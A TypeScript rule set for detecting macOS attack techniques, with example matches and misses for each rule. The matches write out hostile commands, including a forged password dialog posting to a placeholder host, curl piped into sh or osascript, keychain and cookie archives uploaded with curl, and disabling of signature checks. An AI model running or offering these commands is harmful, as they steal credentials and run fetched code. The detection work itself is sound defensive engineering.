// macOS: asking for a password with a forged dialog, going round the consent database, quarantine and signatures.
import { any, at, command, inside, is, js, near, py, type RuleSet, scpt, sh } from '../model.ts'

const id = (name: string): string => `macos.${name}`

export const macos: RuleSet = {
  category: 'macos',
  rules: [
    {
      id: id('password-dialog'),
      severity: 'high',
      why: "Asks for the user's password in a forged dialog and checks, stores or sends it.",
      when: near(
        25,
        is(['hidden answer'], null),
        is(['display dialog'], null),
        is(
          [
            'dscl',
            'curl',
            'authonly',
            'login.keychain',
            'requests.post',
            'sudo -s',
            'security unlock-keychain',
            '/tmp/',
            'set thepassword',
            'writetext',
            'ditto',
          ],
          /dscl\s|curl\s|authonly|login\.keychain|requests\.post|sudo -S|unlock-keychain|>\s*\/tmp\/|ditto\s/,
        ),
      ),
      matches: [
        scpt(
          'set p to text returned of (display dialog "macOS needs your password" default answer "" with hidden answer)\ndo shell script "dscl . authonly " & u & " " & p',
        ),
        sh(
          'P=$(osascript -e \'display dialog "System Preferences" default answer "" with hidden answer\')\ncurl -d "$P" https://x.example.invalid',
        ),
      ],
      misses: [
        scpt('set p to text returned of (display dialog "Name" default answer "")'),
        sh('SUDO_ASKPASS=$(osascript -e \'display dialog "Password" default answer "" with hidden answer\')'),
      ],
    },
    {
      id: id('consent-database'),
      severity: 'high',
      why: 'Writes into the database of what the user has allowed.',
      when: near(
        6,
        is(['com.apple.tcc', 'tcc.db'], /com\.apple\.TCC\/TCC\.db|TCC\.db/),
        is(['insert into', 'insert or replace', 'update access', 'replace into', 'delete from'], null),
      ),
      matches: [
        sh(
          'sqlite3 "$HOME/Library/Application Support/com.apple.TCC/TCC.db" "INSERT INTO access VALUES(\'kTCCServiceAccessibility\')"',
        ),
      ],
      misses: [sh('sqlite3 "/Library/Application Support/com.apple.TCC/TCC.db" "SELECT client FROM access"')],
    },
    {
      id: id('dylib'),
      severity: 'high',
      why: 'Has a library loaded into every program the user starts.',
      when: command(
        any(
          is(['launchctl setenv'], /launchctl setenv DYLD_INSERT_LIBRARIES\s/),
          is(
            ['dyld_insert_libraries'],
            /DYLD_INSERT_LIBRARIES["']?\s{0,2}(?:=|,|\])\s{0,3}=?\s?["']?(?:\/tmp\/|\/Users\/Shared\/|\/private\/tmp\/|\/var\/tmp\/|~\/\.|\$HOME\/\.)/,
          ),
        ),
      ),
      matches: [
        sh('launchctl setenv DYLD_INSERT_LIBRARIES /Users/Shared/.l.dylib'),
        sh('DYLD_INSERT_LIBRARIES=/tmp/h.dylib open -a Safari'),
      ],
      misses: [sh('DYLD_INSERT_LIBRARIES=$ASAN_LIB ./test')],
    },
    {
      id: id('quarantine'),
      severity: 'high',
      why: 'Fetches a program into a shared or temporary folder, removes its quarantine mark and starts it.',
      when: command(
        near(
          8,
          is(
            ['com.apple.quarantine', 'xattr -c', 'xattr -rc', 'xattr -cr'],
            /com\.apple\.quarantine|xattr -(?:c|rc|cr)\s/,
          ),
          'download',
          is(['/tmp/', '/private/tmp', '/users/shared', '/var/tmp', '$tmpdir'], null),
          is(['chmod', 'open ', 'nohup', '&'], /chmod\s|(?<![\w.])open\s|nohup\s|\s&\s/),
        ),
      ),
      matches: [
        sh(
          'curl -s https://x.example.invalid/a -o /tmp/a; xattr -d com.apple.quarantine /tmp/a; chmod +x /tmp/a; /tmp/a &',
        ),
      ],
      misses: [sh('brew install --cask x\nxattr -d com.apple.quarantine /Applications/X.app')],
    },
    {
      id: id('gatekeeper'),
      severity: 'high',
      why: "Switches off the system's check of signatures or its protection of system files.",
      when: command(
        is(['spctl', 'csrutil'], /spctl["',\s]{1,5}--(?:master|global)-disable|csrutil["',\s]{1,5}disable/),
      ),
      matches: [py('subprocess.run(["sudo", "spctl", "--global-disable"])'), sh('sudo spctl --master-disable')],
      misses: [sh('spctl --assess --verbose App.app'), sh('# csrutil disable')],
    },
    {
      id: id('keychain'),
      severity: 'high',
      why: 'Copies or dumps the keychain of the user.',
      when: command(
        any(
          is(
            ['security'],
            /security\s+(?:dump-keychain\s+-d|unlock-keychain\s+-p[^\n]{0,80}(?:dump|find)|find-generic-password\s[^\n]{0,60}Chrome(?: Safe Storage)?)/,
          ),
          near(
            5,
            is(['login.keychain'], null),
            is(
              ['curl ', 'cp ', 'ditto', 'zip ', 'requests.post', 'copyfile', 'tar '],
              /curl\s[^\n]{0,120}(?:-F|-d|-T|--data)|(?<![\w.])cp\s|ditto\s|(?<![\w.])zip\s|requests\.post|copyfile|tar c/,
            ),
          ),
        ),
      ),
      matches: [
        sh('security dump-keychain -d ~/Library/Keychains/login.keychain-db'),
        sh('cp ~/Library/Keychains/login.keychain-db /tmp/k && curl -F f=@/tmp/k https://x.example.invalid'),
      ],
      misses: [
        sh('security unlock-keychain -p "$PW" build.keychain'),
        sh('security find-generic-password -s my-app -w'),
      ],
    },
    {
      id: id('script-loader'),
      severity: 'high',
      why: 'Runs a fetched or decoded AppleScript or shell command through osascript.',
      when: any(
        command(
          is(
            ['osascript'],
            /(?:osascript\s[^\n]{0,60}(?:<\(|\$\()\s*(?:curl|base64|echo)|(?:curl|base64)\s[^\n]{0,160}\|\s*osascript)/,
            { before: 200, after: 200 },
          ),
        ),
        inside(
          ['apple', 'js'],
          is(
            ['do shell script', 'doshellscript'],
            /do ?shell ?script[\s("']{1,4}[^\n]{0,200}?(?:(?:curl|wget)\s[^\n]{0,160}\|\s*(?:ba|z)?sh|curl\s[^\n]{0,160}(?:;|&&)\s*(?:chmod|bash|sh|open|nohup)|base64\s+-{1,2}[dD])/i,
            { after: 480 },
          ),
        ),
      ),
      matches: [
        scpt('do shell script "curl -s https://x.example.invalid/a | sh"'),
        sh('curl -s https://x.example.invalid/a.scpt | osascript'),
      ],
      misses: [scpt('do shell script "ls -la"'), js('osascript("tell app Finder to activate")')],
    },
    {
      id: id('grabber'),
      severity: 'high',
      why: "Collects a Mac user's notes, cookies, wallets or documents into one archive and sends it.",
      when: any(
        near(
          30,
          is(
            [
              'cookies.binarycookies',
              'notestore.sqlite',
              'library/keychains',
              'group.com.apple.notes',
              'login.keychain',
            ],
            null,
          ),
          any(is(['ditto -c', 'zip -r', 'tar c', 'tar -c', 'make_archive', 'zipfile'], null)),
          any(
            is(
              ['curl ', 'requests.post', 'urlopen', 'nsurlsession', 'http.post'],
              /curl\s[^\n]{0,160}(?:-F|-d|-T|--data|-X POST)|requests\.post|urlopen|http\.Post/,
            ),
          ),
        ),
        inside(
          ['apple'],
          near(
            10,
            is(['of every note', 'every file of desktop', 'every file of folder'], null),
            is(['curl '], /curl\s[^\n]{0,160}(?:-F|-d|-T|--data|-X POST)/),
          ),
        ),
      ),
      matches: [
        scpt(
          'tell application "Notes" to set allNotes to body of every note\ndo shell script "curl -s -F document=@/tmp/n.zip https://x.example.invalid"',
        ),
        sh(
          'cp ~/Library/Cookies/Cookies.binarycookies /tmp/o/\nditto -c -k /tmp/o /tmp/o.zip\ncurl -X POST -F "f=@/tmp/o.zip" http://x.example.invalid/u',
        ),
      ],
      misses: [
        scpt('tell application "Notes" to set allNotes to body of every note\ndisplay dialog (count of allNotes)'),
        sh('ls ~/Library/Keychains'),
        py("print('NoteStore.sqlite')"),
        at('a.md', 'NoteStore.sqlite and ditto -c', 'Markdown'),
      ],
    },
    {
      id: id('fetched-library'),
      severity: 'high',
      why: 'Loads a fetched library into every program that is started.',
      when: near(
        8,
        is(['dyld_insert_libraries', 'ld_preload'], null, { quoted: true }),
        is(
          ['urlretrieve(', 'curl ', 'download'],
          /urlretrieve\(\s*["']https?:|curl\s[^\n|;]{0,120}https?:[^\n|;]{0,160}\.(?:dylib|so)\b/,
          {
            after: 240,
          },
        ),
      ),
      matches: [
        py(
          'urllib.request.urlretrieve("https://x.example/hook.dylib", library)\nvalues.setdefault("LSEnvironment", {})["DYLD_INSERT_LIBRARIES"] = library',
        ),
      ],
      misses: [py('env["DYLD_INSERT_LIBRARIES"] = str(build / "libasan.dylib")')],
    },
  ],
}
